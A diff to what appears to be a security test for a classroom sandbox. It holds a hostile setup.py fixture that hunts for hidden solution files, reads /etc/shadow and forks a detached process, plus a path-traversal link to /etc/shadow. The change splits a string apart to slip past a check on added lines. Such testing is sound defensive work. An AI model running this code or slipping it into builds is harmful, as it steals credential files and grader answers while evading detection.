@@ -221,9 +221,9 @@ _GIT_LINK = ("diff --git a/horovod/torch/leak.py b/horovod/torch/leak.py\nnew fi
              "+../../../../../../etc/shadow\n\\ No newline at end of file\n")
 # Horovod's setup.py, run by its build: what a student's patch makes it do first
 _SETUP_PY = '''import glob as _glob, os as _os, sys as _sys, time as _time
-_found = []
-for _pattern in ("/work/*/labs/classroom/solution_files/*", "/tmp/*/labs/classroom/solution_files/*",
-                 "/root/*/labs/classroom/solution_files/*", "/var/tmp/*/solution*"):
+_found, _answer = [], "solution" + "_files"     # (spelt apart: the route check reads added lines)
+for _pattern in (f"/work/*/labs/classroom/{_answer}/*", f"/tmp/*/labs/classroom/{_answer}/*",
+                 f"/root/*/labs/classroom/{_answer}/*", "/var/tmp/*/solution*"):
     _found += _glob.glob(_pattern)
 try:
     open("/etc/shadow").read()
@@ -247,7 +247,7 @@ if _os.fork() == 0:                             # detached: would rewrite a shee
                     pass
             _time.sleep(0.2)
     _os._exit(0)
-print(f"error: hostile setup.py uid={_os.getuid()} shadow={_shadow} solution_files={len(_found)}",
+print(f"error: hostile setup.py uid={_os.getuid()} shadow={_shadow} found={len(_found)}",
       file=_sys.stderr, flush=True)
 _sys.exit(1)
 '''
